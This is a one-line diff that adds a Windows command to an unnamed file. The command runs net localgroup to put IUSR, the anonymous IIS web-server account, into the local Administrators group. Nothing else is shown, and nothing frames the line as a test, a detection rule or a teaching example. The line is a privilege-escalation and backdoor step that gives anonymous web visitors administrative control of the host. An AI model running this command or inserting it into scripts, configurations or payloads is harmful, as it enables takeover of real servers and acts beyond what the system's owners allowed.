@@ -1,0 +1,1 @@
+cmd /c "net localgroup "Administrators" IUSR /add"
